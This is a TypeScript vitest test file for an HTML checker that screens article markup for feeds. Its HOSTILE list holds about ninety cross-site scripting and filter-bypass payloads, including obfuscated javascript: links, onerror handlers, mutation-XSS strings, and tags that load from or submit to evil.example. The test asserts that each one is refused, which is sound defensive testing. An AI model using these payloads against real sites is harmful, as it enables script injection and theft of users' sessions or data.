import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { pictureStretches, tableStretches } from "../../src/build/stretches.ts";
import { bundledCatalog } from "../../src/catalog/bundle/bundledcatalog.ts";
import { everyEntry } from "../../src/catalog/traversal.ts";
import { picturesAmong, tablesAmong } from "../../src/manuscript/cutouts.ts";
import { checkHtml } from "../../src/manuscript/htmlcheck.ts";
import { builtFolder, PUBLICATIONS } from "../fixtures/publications.ts";

/** What is said of a text of the article `harbour`; nothing where it may be carried. */
function mistake(html: string): string | undefined {
  const checked = checkHtml(html, "harbour");
  return "mistake" in checked ? checked.mistake : undefined;
}

/** Shapes that filters were got past with: each acts or loads by itself in some client when it is let through. */
const HOSTILE: readonly string[] = [
  "<script>steal()</script>",
  "<SCRIPT>steal()</SCRIPT>",
  "<script src=//evil.example/a.js></script>",
  "<scr<script>ipt>steal()</script>",
  "<img src=x onerror=steal()>",
  '<img src="https://a.example/a.png" onerror="steal()">',
  '<img src="https://a.example/a.png"onerror="steal()">',
  '<img/src="https://a.example/a.png"/onerror="steal()">',
  '<img src="https://a.example/a.png"\u000bonload="steal()">',
  '<img src="javascript:steal()">',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<img src="http://a.example/a.png">',
  '<img alt="no address">',
  '<img src="https://a.example/a.png" srcset="https://evil.example/b.png 2x">',
  '<a href="javascript:steal()">x</a>',
  '<a href="JaVaScRiPt:steal()">x</a>',
  '<a href="java\tscript:steal()">x</a>',
  '<a href="java&#9;script:steal()">x</a>',
  '<a href="java&Tab;script:steal()">x</a>',
  '<a href="&#106;avascript:steal()">x</a>',
  '<a href="&#x6A;avascript&colon;steal()">x</a>',
  '<a href=" javascript:steal()">x</a>',
  '<a href="\u0001javascript:steal()">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '<a href="https://a.example/" href="javascript:steal()">x</a>',
  '<a href="https://a.example/" target="_blank">x</a>',
  '<a href="https://a.example/" ping="https://evil.example/">x</a>',
  "<a href=`https://a.example/`>x</a>",
  "<a href=https://a.example/>x</a>",
  '<p onclick="steal()">x</p>',
  '<p style="background:url(javascript:steal())">x</p>',
  '<p class="footnotes">x</p>',
  '<section class="footnotes evil">x</section>',
  '<p id="location">x</p>',
  '<p dir="evil">x</p>',
  '<p data-x="1">x</p>',
  '<p xmlns="http://www.w3.org/1999/xhtml">x</p>',
  "<svg><script>steal()</script></svg>",
  "<svg/onload=steal()>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;"></iframe>',
  '<object data="https://evil.example/"></object>',
  '<embed src="https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<input autofocus onfocus="steal()">',
  "<style>@import 'https://evil.example/a.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  "<template><script>steal()</script></template>",
  "<textarea></textarea><img src=x onerror=steal()>",
  "<title></title>",
  "<xmp><p></xmp>",
  "<plaintext>x",
  "<!--><img src=x onerror=steal()>-->",
  "<!-- harmless -->",
  "<![CDATA[<script>steal()</script>]]>",
  "<!DOCTYPE html>",
  '<?xml version="1.0"?>',
  "<p>not closed",
  "<b><i>x</b></i>",
  "</p>",
  "<p/>",
  "<td>outside of a table</td>",
  "<details ontoggle=steal() open></details>",
  "<video><source onerror=steal()></video>",
  "<marquee onstart=steal()>x</marquee>",
  '<p title="a" title="b">x</p>',
  "a & b",
  "a < b",
  "a &#0; b",
  "a &#xD800; b",
  "a &#x110000; b",
  "a \u0000 b",
  "a \ud800 b",
  `${"<b>".repeat(150)}x${"</b>".repeat(150)}`,
  '<p\u00a0title="x">y</p>',
  '<p title="x>y</p>',
  "<p title='x\">y</p>",
  "<custom-element>x</custom-element>",
  "<a\nhref\n=\n'javascript:steal()'>x</a>",
];

test.each(HOSTILE)("what acts or loads by itself, or leaves something to the parser, is refused: %s", (html) => {
  expect(mistake(html)).toEqual(expect.stringMatching(/: .|is nested/));
});

test.each([
  "<p>One <em>two</em> &amp; &copy; 3 > 2</p>",
  '<p title="a > b &amp; &quot;c&quot;" lang="de" dir="rtl">x</p>',
  "<p title='say \"x\"'>y</p>",
  '<a href="https://a.example/?a=1&amp;b=2">x</a><a href="mailto:desk@a.example">y</a>',
  '<img src="https://a.example/a.png" alt="" width="3" height="4"><br><hr/><wbr>',
  '<table><thead><tr><th scope="col" colspan="2" align="left">x</th></tr></thead></table>',
  '<sup><a href="https://a.example/articles/harbour#harbour-fn-1" id="harbour-fnref-1">1</a></sup>',
  '<section class="footnotes"><ol reversed start="2"><li value="3">x</li></ol></section>',
  "<details open><summary>x</summary>y</details>",
  '<time datetime="2026-11-20">x</time><del cite="https://a.example/">y</del>',
  "",
])("what feeds may carry is let through: %s", (html) => expect(mistake(html)).toBe(undefined));

test("a mistake says where it stands", () => {
  expect(checkHtml("<p>One</p><iframe></iframe>", "harbour")).toEqual({
    mistake: "has <iframe>, which feeds do not carry: remove it",
    offset: 10,
  });
});

test("whatever the build makes passes, and its pictures and tables are found in the same places", async () => {
  let seen = 0;
  for (const folder of PUBLICATIONS.map(builtFolder)) {
    const catalog = bundledCatalog(new Uint8Array(readFileSync(`${folder}/catalog.bin`)).buffer);
    const entries = await everyEntry(catalog, new Date("2100-01-01T00:00:00Z"), () => true);
    for (const { html, slug } of await catalog.read(entries)) {
      const checked = checkHtml(html, slug);
      if ("mistake" in checked)
        throw new Error(`${slug}: ${checked.mistake} at ${html.slice(checked.offset, checked.offset + 60)}`);
      expect(picturesAmong(checked.nodes, html)).toEqual(pictureStretches(html));
      expect(tablesAmong(checked.nodes, html)).toEqual(tableStretches(html));
      seen++;
    }
  }
  expect(seen).toBe(5);
});
